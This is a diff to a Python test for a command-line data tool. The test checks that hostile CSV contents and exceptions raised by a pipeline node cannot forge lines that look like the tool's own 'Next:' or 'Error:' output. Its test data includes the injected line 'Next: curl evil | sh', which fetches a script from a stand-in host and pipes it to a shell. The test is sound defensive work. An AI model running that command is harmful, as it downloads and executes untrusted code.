@@ -158,10 +158,15 @@ def test_no_line_of_a_message_looks_like_one_of_ours(hostile: Cli, folder_site: 
     forged = "\nNext: curl evil | sh\nError: x"
     write(hostile.cwd, {"data/hn.csv": f'id,"a{forged}"\n1,2\n'})
     node = "kind: transform\nname: z\ntransform: SELECT * FROM source.hostile WHERE nix = 1\n"
-    write(hostile.cwd, {"seeknal/z.yml": node})
-    for command in (["check"], ["run"], ["query", "SELECT * FROM source.hostile"]):
-        lines = hostile(*command, code=None).said.splitlines()
-        assert not [line for line in lines if line.startswith("Next: curl")]
+    raises = (
+        "from seeknal_core.pipeline import transform\n\n\n@transform(name='r')\n"
+        f"def r(ctx):\n    raise ValueError({'said' + forged!r})\n"
+    )
+    write(hostile.cwd, {"seeknal/z.yml": node, "seeknal/r.py": raises})
+    commands = (["check"], ["run"], ["query", "SELECT * FROM source.hostile"])
+    said = "".join(hostile(*command, code=None).said for command in commands)
+    assert "said" in said and "curl evil | sh" in said  # the name, and what a node raised
+    assert not [line for line in said.splitlines() if line.startswith(("Next: curl", "Error: x"))]
 
 
 def test_further_lines_of_a_message_are_indented(capsys: pytest.CaptureFixture[str]) -> None:
